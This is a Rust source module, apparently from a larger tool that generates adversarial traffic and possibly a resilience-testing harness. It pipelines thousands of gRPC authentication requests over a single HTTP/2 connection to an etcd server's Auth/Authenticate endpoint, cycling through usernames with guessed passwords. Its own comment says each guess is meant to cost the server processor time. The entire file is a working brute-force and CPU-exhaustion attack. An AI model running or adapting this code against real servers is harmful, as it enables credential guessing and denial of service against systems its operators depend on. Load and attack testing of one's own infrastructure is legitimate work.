//! Guessing passwords: each costs the server tens of milliseconds of a processor, on purpose.

use super::arms::Arms;
use super::honest::field;
use super::http2::{DATA, END_HEADERS, END_STREAM, HEADERS, Http2, frame, request};
use std::io;

/// Guesses on one connection.
const GUESSES: u32 = 4000;

/// Passwords of one user after another.
pub(super) async fn guesses(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let path = "/etcdserverpb.Auth/Authenticate";
    let head = request(&arms.authority(), "POST", path, "application/grpc");
    for stream in (1..2 * GUESSES).step_by(2) {
        arms.pace(1).await;
        let name = format!("user{}", stream % 97);
        let guess = [field(1, name), field(2, stream.to_string())].concat();
        let prefix = [0, 0, 0, 0, guess.len() as u8];
        let mut both = frame(HEADERS, END_HEADERS, stream, &head);
        both.extend(frame(
            DATA,
            END_STREAM,
            stream,
            &[&prefix[..], &guess].concat(),
        ));
        line.send(&both).await?;
    }
    Ok(())
}
